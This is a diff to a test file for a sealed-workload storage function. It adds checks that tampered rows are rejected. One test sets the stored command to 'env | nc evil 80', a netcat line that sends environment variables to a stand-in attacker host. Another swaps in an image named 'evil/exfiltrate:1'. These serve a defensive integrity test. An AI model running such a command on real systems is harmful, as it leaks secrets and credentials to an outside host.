@@ -164,6 +164,9 @@ describe("quotes", () => {
     expect(() => openStoredWorkload(stored, quote.clusterId, randomBytes(32))).toThrow(WorkloadSecretsError);
     expect(() => openStoredWorkload(stored, quote.clusterId, undefined)).toThrow(/WORKLOAD_SECRETS_KEY is not set/);
     expect(() => openStoredWorkload(stored, randomUUID(), key)).toThrow(WorkloadSecretsError);
+    // Whoever can write the row cannot keep the sealed env and swap what it runs.
+    expect(() => openStoredWorkload({ ...(stored as object), image: "evil/exfiltrate:1" }, quote.clusterId, key)).toThrow(WorkloadSecretsError);
+    expect(() => openStoredWorkload({ ...(stored as object), command: ["sh", "-c", "env | nc evil 80"] }, quote.clusterId, key)).toThrow(WorkloadSecretsError);
     // A row from before sealing (values in clear) still reads, with or without the key.
     const legacy = { ...workload, env: { TOKEN: "old" } };
     expect(openStoredWorkload(legacy, quote.clusterId, undefined)).toEqual(legacy);
